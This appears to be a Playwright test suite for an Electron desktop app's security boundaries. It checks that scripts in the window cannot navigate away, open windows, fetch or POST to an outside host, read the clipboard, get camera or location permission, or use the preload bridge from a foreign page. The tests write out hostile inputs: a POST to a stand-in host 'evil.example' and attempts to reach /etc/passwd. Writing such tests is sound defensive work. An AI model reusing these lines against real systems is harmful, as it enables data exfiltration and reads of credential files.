import type { ElectronApplication } from '@playwright/test';
import { expect, inPage, test, textOfPage } from '../desktop.ts';

const ownPage = 'app://videomind/index.html';

function windows(program: ElectronApplication): Promise<number> {
  return program.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);
}

test('the window stays on the program’s page, whatever a script in it asks for', async ({ desktop }) => {
  const { app, program } = await desktop.open();
  const start = app.page.getByRole('button', { name: 'Start the demo' });
  await expect(start).toBeVisible();
  const places = [
    'https://evil.example/',
    'file:///etc/passwd',
    'data:text/html,<h1>taken over</h1>',
    'app://videomind/media/video/1',
    'app://evil/index.html',
  ];
  for (const place of places) {
    // It begins, and is then refused: what it answers is of no use.
    await inPage(program, `location.href = ${JSON.stringify(place)}; 0`).catch(() => undefined);
    await expect.poll(() => inPage<string>(program, 'location.href').catch(String)).toBe(ownPage);
  }
  await expect.poll(() => textOfPage(program)).toContain('Start the demo');

  // This way cannot be closed beforehand; the page comes back, and the program with it.
  await inPage(program, "window.name = 'before'; location.href = 'about:blank'; 0").catch(() => undefined);
  await expect.poll(() => inPage<string>(program, 'location.href').catch(() => '')).toBe(ownPage);
  await expect.poll(() => textOfPage(program)).toContain('Start the demo');
});

test('no script opens a window, embeds a page, loads or sends anything elsewhere, or gets a permission', async ({
  desktop,
}) => {
  const { app, program } = await desktop.open();
  await expect(app.page.getByRole('button', { name: 'Start the demo' })).toBeVisible();
  for (const place of ['https://evil.example/', 'about:blank', ownPage]) {
    expect(await inPage<boolean>(program, `window.open(${JSON.stringify(place)}) === null`)).toBe(true);
  }
  expect(await windows(program)).toBe(1);
  const asked = await inPage<Record<string, string>>(
    program,
    `(async () => {
      const said = async (work) => { try { return String(await work()); } catch (error) { return 'refused'; } };
      return {
        fetch: await said(() => fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(() => 'sent')),
        script: await said(() => (0, eval)('1')),
        camera: await said(() => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted')),
        place: await said(() => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), reject))),
        notices: await said(() => Notification.requestPermission()),
        clipboard: await said(() => navigator.clipboard.readText().then(() => 'read')),
        node: [typeof require, typeof process, typeof module].join(' '),
      };
    })()`,
  );
  expect(asked).toEqual({
    fetch: 'refused',
    script: 'refused',
    camera: 'refused',
    place: 'refused',
    notices: 'denied',
    clipboard: 'refused',
    node: 'undefined undefined undefined',
  });
});

test('a foreign page that got the bridge is answered nothing', async ({ desktop }) => {
  const { app, program } = await desktop.open();
  await expect(app.page.getByRole('button', { name: 'Start the demo' })).toBeVisible();
  const answers = await program.evaluate(async ({ app: system, BrowserWindow, dialog }) => {
    const preload = `${system.getAppPath()}/${system.isPackaged ? 'dist' : '..'}/preload/preload.cjs`;
    let dialogs = 0;
    dialog.showOpenDialog = () => {
      dialogs += 1;
      return Promise.resolve({ canceled: false, filePaths: ['/etc/passwd'] });
    };
    const webPreferences = { sandbox: true, contextIsolation: true, preload };
    const foreign = new BrowserWindow({ show: false, webPreferences });
    await foreign.loadURL('data:text/html,<title>foreign</title>');
    const said = (await foreign.webContents.executeJavaScript(
      `(async () => {
        const ask = (work) => work().then(() => 'answered', (error) => String(error.message));
        const bridge = window.videomind;
        const connection = bridge.connect();
        const closed = new Promise((resolve) => connection.onClose(() => resolve('closed')));
        const heard = new Promise((resolve) => connection.onMessage(() => resolve('heard')));
        connection.send(JSON.stringify({ type: 'hello' }));
        return [
          await Promise.race([closed, heard]),
          await ask(() => bridge.chooseFiles({ title: 'x', kind: 'video', several: true })),
          await ask(() => bridge.chooseSavePath('x.csv')),
          await ask(() => bridge.revealPath('/etc/passwd')),
        ];
      })()`,
    )) as string[];
    foreign.destroy();
    return { said, dialogs };
  });
  expect(answers.dialogs).toBe(0);
  const [connection, ...calls] = answers.said;
  expect(connection).toBe('closed');
  expect(calls).toHaveLength(3);
  for (const each of calls) expect(each).toContain('Only the program’s own page may ask this');
});
